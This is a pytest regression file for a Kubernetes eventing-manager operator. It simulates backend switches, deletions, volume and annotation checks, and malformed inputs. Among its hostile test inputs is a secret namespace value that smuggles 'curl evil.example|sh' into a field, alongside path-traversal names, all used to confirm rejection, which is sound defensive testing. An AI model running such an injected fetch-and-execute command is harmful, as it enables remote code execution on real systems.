"""What was found wrong once, played on the stage: each ends as the contract says."""

import asyncio
import base64
import logging

import pytest
from stage_life import CR_NAMESPACE, NAMESPACE, play
from stage_program import World, calm, happen
from stage_server import REFUSED

from eventing_manager.api.names import FINALIZER
from kubeloop.applyset import KINDS_ANNOTATION

OF_NATS = [
    "ConfigMap/eventing-nats",
    "NetworkPolicy/eventing-nats",
    "PersistentVolumeClaim/data-eventing-nats-0",
    "Secret/eventing-nats-auth",
    "Service/eventing-nats",
    "Service/eventing-nats-headless",
    "StatefulSet/eventing-nats",
]


def test_nats_comes_is_switched_and_goes(life):
    async def scene(life):
        async with life.played():
            life.write()
            await life.rest()
            assert (life.state(), life.left()) == (("Ready", "Available"), OF_NATS)
            life.write(backend="eventmesh")
            await life.rest()
            assert (life.state(), life.left()) == (("Ready", "Available"), [])
            assert life.eventing()["metadata"]["annotations"][KINDS_ANNOTATION] == ""
            life.write()
            await life.rest()
            life.delete()
            await life.rest()
            assert (life.state(), life.left()) == (("gone", ""), [])

    play(scene, life())


@pytest.mark.parametrize("consumer", [{"filter": "orders.1"}, {"deliver": "new"}, None])
def test_messages_that_no_consumer_asks_for_are_not_received(life, consumer):
    async def scene(life):
        async with life.played():
            life.write()
            await life.rest()
            for number in range(5):
                assert life.nats.publish("orders", f"orders.{number}")
            if consumer is not None:
                life.nats.consume("orders", "reader", **consumer)
            life.write(backend="eventmesh")
            await life.rest()
            assert life.state() == ("Processing", "UndeliveredMessages")
            assert life.left() == OF_NATS
            life.nats.consume("orders", "other")
            await life.rest()
            if consumer is None or "deliver" not in consumer:
                assert (life.state(), life.left()) == (("Ready", "Available"), [])
            assert life.nats.lost == []

    play(scene, life())


@pytest.mark.parametrize("storage", ["file", "memory"])
@pytest.mark.parametrize("namespace", [NAMESPACE, CR_NAMESPACE, "shop"])
def test_an_eventing_goes_with_all_of_it_wherever_it_is(life, namespace, storage):
    async def scene(life):
        async with life.played():
            life.write(namespace=namespace, nats={"storage": {"type": storage}})
            await life.rest()
            assert life.state(namespace=namespace) == ("Ready", "Available")
            life.delete(namespace=namespace)
            await life.rest()
            assert (life.state(namespace=namespace), life.left()) == (("gone", ""), [])

    play(scene, life())


@pytest.mark.parametrize("storage", ["file", "memory"])
@pytest.mark.parametrize("messages", [0, 2])
def test_a_manifest_that_replaces_an_eventing_orphans_nothing(life, storage, messages):
    async def scene(life):
        async with life.played():
            life.write(nats={"storage": {"type": storage}})
            await life.rest()
            for number in range(messages):
                life.nats.publish("orders", f"orders.{number}")
            life.replace(backend="eventmesh")
            await life.rest()
            if messages:
                assert life.state() == ("Processing", "UndeliveredMessages")
                life.nats.consume("orders", "reader")
                await life.rest()
            assert (life.state(), life.left(), life.nats.lost) == (("Ready", "Available"), [], [])

    play(scene, life())


def test_hints_that_were_lost_are_written_again(life):
    async def scene(life):
        async with life.played():
            life.write(nats={"storage": {"type": "memory"}})
            await life.rest()
            before = life.eventing()["metadata"]
            life.replace(nats={"storage": {"type": "memory"}})
            await life.rest()
            after = life.eventing()["metadata"]
            assert after["annotations"] == before["annotations"]
            assert after["labels"] == before["labels"]
            assert after["finalizers"] == [FINALIZER]

    play(scene, life())


def test_a_retained_volume_has_to_have_the_size(life):
    async def scene(life):
        async with life.played():
            small = {"storage": {"size": "64Mi", "reclaimPolicy": "Retain"}}
            life.write(nats=small)
            await life.rest()
            life.write(backend="eventmesh", nats=small)
            await life.rest()
            life.write(nats={"storage": {"size": "1Gi", "reclaimPolicy": "Retain"}})
            await life.rest()
            assert life.state() == ("Warning", "VolumesUnfit")
            assert "storage.size 64Mi" in life.condition("Ready")["message"]
            assert life.left() == ["PersistentVolumeClaim/data-eventing-nats-0"]

    play(scene, life())


@pytest.mark.parametrize("policy", ["Retain", "Delete"])
def test_a_copy_of_a_claim_is_nobodys_business(life, policy):
    async def scene(life):
        async with life.played():
            life.write(nats={"storage": {"reclaimPolicy": policy}})
            await life.rest()
            claim = life.server.find("persistentvolumeclaims", "data-eventing-nats-0")
            metadata = {
                "name": "data-eventing-nats-0-backup",
                "namespace": NAMESPACE,
                "labels": claim["metadata"]["labels"],
            }
            life.server.put({**claim, "metadata": metadata})
            life.write(backend="eventmesh", nats={"storage": {"reclaimPolicy": policy}})
            await life.rest()
            kept = ["PersistentVolumeClaim/data-eventing-nats-0"] if policy == "Retain" else []
            assert life.state() == ("Ready", "Available")
            assert life.left() == [*kept, "PersistentVolumeClaim/data-eventing-nats-0-backup"]

    play(scene, life())


@pytest.mark.parametrize("size", ["1e999999", "1e5000", "1e99999999999", "1e20", "0", "-1Gi", "1Ki", "101Ti"])
def test_a_size_that_an_old_definition_let_in_is_refused_and_others_are_served(life, size):
    async def scene(life):
        async with life.played():
            life.write(nats={"storage": {"size": size}})
            await life.rest()
            assert (life.state(), life.left()) == (("Warning", "SpecRefused"), [])
            life.delete()
            life.write("second", "shop")
            await life.rest()
            assert life.state("second", "shop") == ("Ready", "Available")

    play(scene, life())


@pytest.mark.parametrize("name", ["a/b", "..", "x;curl evil.example|sh;#", "a\nb", "a" * 300, "%2e"])
def test_a_secret_that_cannot_be_named_ends_nothing(life, name):
    async def scene(life):
        async with life.played():
            life.write(backend="eventmesh", eventmesh={"secretRef": {"name": "s", "namespace": name}})
            await life.rest()
            state, reason = life.state()
            assert (state, reason) in {("Error", "Internal"), ("Warning", "SecretMissing")}
            life.write()
            await life.rest()
            assert life.state() == ("Ready", "Available")

    play(scene, life())


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({"storage": {"size": "1Gi"}}, {"storage": {"size": "2Gi"}}),
        ({"storage": {"type": "memory"}}, {"storage": {"type": "file"}}),
        ({"storage": {"type": "memory"}}, {"storage": {"type": "memory"}, "replicas": 3}),
        ({}, {"replicas": 3}),
        ({}, {"storage": {"type": "memory"}}),
    ],
)
def test_a_switch_back_with_other_servers_is_refused_and_nats_works_on(life, before, after):
    async def scene(life):
        async with life.played():
            life.write(nats=before)
            await life.rest()
            for number in range(3):
                life.nats.publish("orders", f"orders.{number}")
            life.write(backend="eventmesh", nats=before)
            await life.rest()
            life.write(nats=after)
            await life.rest()
            assert life.state() == ("Warning", "VolumesUnfit")
            assert "switch to eventmesh, wait until that is Ready" in life.condition("Ready")["message"]
            assert life.nats.publish("orders", "orders.9")
            life.write(backend="eventmesh", nats=after)
            await life.rest()
            life.nats.consume("orders", "reader")
            await life.rest()
            life.write(nats=after)
            await life.rest()
            assert (life.state(), life.nats.lost) == (("Ready", "Available"), [])

    play(scene, life())


@pytest.mark.parametrize("moment", ["at once", "while it waits"])
def test_the_next_eventing_is_not_begun_while_the_module_is_being_removed(life, moment):
    async def scene(life):
        async with life.played():
            life.write()
            life.write("second", "shop")
            await life.rest()
            assert life.state("second", "shop") == ("Warning", "AnotherIsServed")
            life.delete()
            if moment == "while it waits":
                while life.eventing() is not None:
                    await life.server.until_changed()
                await asyncio.sleep(5)
                assert life.state("second", "shop") == ("Processing", "HandedOver")
            definition = "eventings.operator.kyma-project.io"
            finalizers = {"metadata": {"finalizers": ["customresourcecleanup.apiextensions.k8s.io"]}}
            life.server.change("customresourcedefinitions", definition, finalizers, "")
            life.server.remove("customresourcedefinitions", definition, "")
            await life.rest()
            assert life.state("second", "shop") == ("Warning", "ModuleLeaves")
            assert "finalizers" not in life.eventing("second", "shop")["metadata"]
            assert life.left() == []

    play(scene, life())


def test_the_next_eventing_is_served_after_a_while(life):
    async def scene(life):
        async with life.played():
            life.write()
            life.write("second", "shop")
            await life.rest()
            life.delete()
            await life.rest()
            assert life.state("second", "shop") == ("Ready", "Available")

    play(scene, life())


def test_a_finalizer_that_somebody_else_wrote_does_not_make_an_eventing_the_first(life):
    async def scene(life):
        async with life.played():
            life.write("later", "shop")
            life.server.change("eventings", "later", {"metadata": {"finalizers": [FINALIZER]}}, "shop")
            await life.kill()
            life.server.remove("eventings", "later", "shop")
            life.server.drop("eventings", "later", "shop")
            life.write()
            await life.start()
            await life.rest()
            life.write("later", "shop")
            life.server.change("eventings", "later", {"metadata": {"finalizers": [FINALIZER]}}, "shop")
            await life.kill()
            await life.start()
            await life.rest()
            assert life.state() == ("Ready", "Available")
            assert life.state("later", "shop") == ("Warning", "AnotherIsServed")
            life.delete("later", "shop")
            await life.rest()
            assert life.state("later", "shop") == ("gone", "")

    play(scene, life())


def test_an_eventing_of_a_namespace_that_is_not_served_is_told_so(life):
    async def scene(life):
        async with life.played():
            life.write("eventing", "shop")
            await life.rest()
            assert life.state("eventing", "shop") == ("Warning", "NamespaceNotServed")
            assert "kcp-system" in life.condition("Ready", "eventing", "shop")["message"]
            life.write()
            await life.rest()
            assert life.state() == ("Ready", "Available")

    play(scene, life(serve_namespaces=(CR_NAMESPACE,)))


@pytest.mark.parametrize(
    ("labels", "annotations", "is_taken"),
    [
        ({"team": "a"}, {"note": "b"}, True),
        ({"eventing.kyma-project.io/tier": "a"}, {"prometheus.io/scrape": "true"}, True),
        ({"app": "shop"}, {}, False),
        ({"sidecar.istio.io/inject": "true"}, {}, False),
        ({"kyma-project.io.evil.example/a": "true"}, {}, False),
        ({}, {"vault.hashicorp.com/agent-inject": "true"}, False),
        ({}, {"eventing-manager.kyma-project.io/draining": "true"}, False),
    ],
)
def test_what_pods_may_bear_is_told_apart_by_its_key(life, labels, annotations, is_taken):
    async def scene(life):
        async with life.played():
            life.write()
            await life.rest()
            life.write(nats={"labels": labels, "annotations": annotations})
            await life.rest()
            assert life.state() == (("Ready", "Available") if is_taken else ("Warning", "SpecRefused"))
            assert life.nats.publish("orders", "orders.1")
            template = life.server.find("statefulsets", "eventing-nats")["spec"]["template"]["metadata"]
            assert (labels.items() <= template["labels"].items()) is (is_taken or not labels)

    play(scene, life())


def test_an_annotation_value_is_taken_as_it_is_written(life):
    async def scene(life):
        async with life.played():
            life.write(nats={"annotations": {"note": "<<", "more": "=", "when": "2022-12-24"}})
            await life.rest()
            assert life.state() == ("Ready", "Available")

    play(scene, life())


@pytest.mark.parametrize("password", ["$2a$11$abcdefghijklmnopqrstuv", "x" * 1025])
def test_a_password_that_nats_would_take_for_something_else_is_refused(life, password):
    async def scene(life):
        async with life.played():
            life.write()
            await life.rest()
            life.server.change("secrets", "eventing-nats-auth", {"data": {"password": encoded(password)}})
            await life.rest()
            assert life.state() == ("Warning", "CredentialsUnfit")
            assert password not in life.condition("Ready")["message"]
            life.server.remove("secrets", "eventing-nats-auth")
            await life.rest()
            assert life.state() == ("Ready", "Available")

    play(scene, life())


def encoded(text):
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize("reason", ["Evaporated", "X" * 900])
def test_what_another_version_wrote_into_a_status_is_tolerated(life, reason):
    async def scene(life):
        async with life.played():
            life.write()
            await life.rest()
            condition = {
                "type": "Drained", "status": "True", "reason": reason, "message": "who knows",
                "lastTransitionTime": "2022-12-24T12:00:00.123Z",
            }  # fmt: skip
            other = {**condition, "type": "Sublimated"}
            status = {**life.eventing()["status"], "conditions": [condition, other], "more": 1}
            life.server.change("eventings", "eventing", {"status": status}, CR_NAMESPACE, status=True)
            life.write(backend="eventmesh")
            await life.rest()
            assert (life.state(), life.left()) == (("Ready", "Available"), [])

    play(scene, life())


def test_an_error_that_nobody_expected_is_reported_and_ends_nothing(life):
    async def scene(life):
        async def before(method, path):
            if method == "PATCH" and path.endswith("/configmaps/eventing-nats"):
                raise ZeroDivisionError("the secret is 42")

        async with life.played():
            life.server.before = before
            life.write()
            await life.rest(5)
            assert life.state() == ("Error", "Internal")
            assert "ZeroDivisionError" in life.condition("Ready")["message"]
            assert "42" not in life.condition("Ready")["message"]
            life.server.before = nothing
            await life.rest()
            assert life.state() == ("Ready", "Available")

    async def nothing(_method, _path):
        pass

    play(scene, life())


def test_a_blocked_switch_looks_rarely_and_asks_the_api_server_nothing(life):
    async def scene(life):
        async with life.played():
            life.write()
            await life.rest()
            life.nats.publish("orders", "orders.1")
            life.write(backend="eventmesh")
            await life.rest(400)
            life.server.requests.clear()
            life.nats.asked = 0
            await life.rest(300)
            assert life.state() == ("Processing", "UndeliveredMessages")
            assert [one for one in life.server.requests if one[0] != "WATCH"] == []
            assert 9 <= life.nats.asked <= 11

    play(scene, life())


@pytest.mark.parametrize("tooling", ["helm/v4.3.1", "kubectl/v1.37.2"])
def test_annotations_of_another_tool_are_respected_and_told(life, tooling):
    async def scene(life):
        async with life.played():
            life.write(annotations={"applyset.kubernetes.io/tooling": tooling})
            await life.rest()
            assert life.state() == ("Warning", "ForeignObject")
            patch = {"metadata": {"annotations": {"applyset.kubernetes.io/tooling": None}}}
            life.server.change("eventings", "eventing", patch, CR_NAMESPACE)
            await life.rest()
            assert life.state() == ("Ready", "Available")

    play(scene, life())


@pytest.mark.parametrize(
    "annotations",
    [
        {
            "applyset.kubernetes.io/contains-group-kinds": "../../x,Pod,,Secret.../",
            "applyset.kubernetes.io/tooling": "",
        },
        {"applyset.kubernetes.io/additional-namespaces": "a/b,%2e%2e,shop"},
        {"eventing-manager.kyma-project.io/nats-settings": "no json"},
        {"eventing-manager.kyma-project.io/nats-settings": "[]"},
        {"eventing-manager.kyma-project.io/nats-settings": '{"replicas": "x", "storage": 7}'},
        {"eventing-manager.kyma-project.io/force": "whenever"},
    ],
)
def test_annotations_that_make_no_sense_end_nothing(life, annotations):
    async def scene(life):
        async with life.played():
            life.write("other", "shop", backend="eventmesh", annotations=annotations)
            await life.rest()
            life.delete("other", "shop")
            await life.rest()
            life.write()
            await life.rest()
            assert life.state() == ("Ready", "Available")
            life.server.change(
                "eventings", "eventing", {"metadata": {"annotations": annotations}}, CR_NAMESPACE
            )
            await life.rest()
            life.force()
            life.delete()
            await life.rest()
            assert (life.state(), life.left()) == (("gone", ""), [])

    play(scene, life())


def test_a_log_level_goes_with_the_eventing_that_set_it(life):
    async def scene(life):
        async with life.played():
            life.write(backend="eventmesh")
            life.server.change("eventings", "eventing", {"spec": {"logLevel": "error"}}, CR_NAMESPACE)
            await life.rest()
            assert logging.root.level == logging.ERROR
            life.delete()
            await life.rest()
            assert logging.root.level == logging.INFO

    level = logging.root.level
    try:
        play(scene, life())
    finally:
        logging.root.setLevel(level)


@pytest.mark.parametrize("lag", [0.5, 5.0, 30.0])
@pytest.mark.parametrize("pause", [0.02, 0.6, 4.0])
def test_a_deletion_does_not_go_by_copies_that_have_not_heard_of_an_object_yet(life, lag, pause):
    async def scene(life):
        async with life.played():
            life.server.lag = lag
            life.write(nats={"storage": {"type": "memory"}})
            await life.rest(pause)
            life.delete()
            await life.rest(400)
            assert (life.state(), life.left()) == (("gone", ""), [])

    play(scene, life())


def test_servers_are_not_made_by_copies_that_have_not_heard_of_their_volumes_yet(life):
    async def scene(life):
        async with life.played():
            three = {"replicas": 3, "storage": {"reclaimPolicy": "Retain"}, "onUndelivered": "Discard"}
            life.server.lag = 30.0
            life.write(nats=three)
            await life.rest(10)
            life.nats.publish("orders", "orders.1")
            life.write(backend="eventmesh", nats=three)
            await life.rest(10)
            life.write(nats={"replicas": 1})
            await life.rest(10)
            assert life.state() == ("Warning", "VolumesUnfit")
            assert life.nats.lost == []

    play(scene, life())


def test_settings_that_the_api_server_refuses_hold_up_no_removal(life):
    async def scene(life):
        async with life.played():
            life.write()
            await life.rest()
            life.nats.publish("orders", "orders.1")
            life.write(nats={"resources": {"limits": {"memory": REFUSED}}})
            await life.rest(5)
            assert life.state() == ("Error", "ApiRefused")
            life.delete()
            await life.rest()
            assert life.state() == ("Deleting", "UndeliveredMessages")
            assert life.nats.is_draining
            life.nats.consume("orders", "reader")
            await life.rest()
            assert (life.state(), life.left()) == (("gone", ""), [])

    play(scene, life())


def test_a_late_status_does_not_land_on_a_successor_of_the_same_name(life):
    async def scene(life):
        async def before(method, path):
            if method == "PATCH" and path.endswith("/eventings/eventing/status"):
                life.server.before = nothing
                life.server.drop("eventings", "eventing", CR_NAMESPACE)
                life.write(backend="eventmesh")

        async def nothing(_method, _path):
            pass

        async with life.played():
            life.server.before = before
            life.write()
            await life.rest()
            assert (life.state(), life.left()) == (("Ready", "Available"), [])
            seen = [one.new for one in life.server.changes if one.plural == "eventings"]
            told = [
                one for one in seen if one and one["metadata"]["uid"] == life.eventing()["metadata"]["uid"]
            ]
            assert "backend nats" not in str(told)

    play(scene, life())


def test_servers_that_take_the_place_of_others_in_the_middle_of_a_roll_get_ready(life):
    program = [
        ("write", "nats", {"storage": {"size": "2Gi"}}, False),
        ("pause", 0.6),
        ("tamper", "statefulsets"),
        ("fail", 3, 5, "killed"),
        ("remove", "statefulsets"),
        ("write", "eventmesh", {}, False),
        ("remove", "secrets"),
        ("write", "nats", {"storage": {"type": "memory"}, "replicas": 3}, False),
    ]

    async def scene(life):
        world = World()
        async with life.played():
            for act in program:
                await happen(act, life, world)
            await calm(life)
            assert life.state() == ("Ready", "Available")

    play(scene, life())
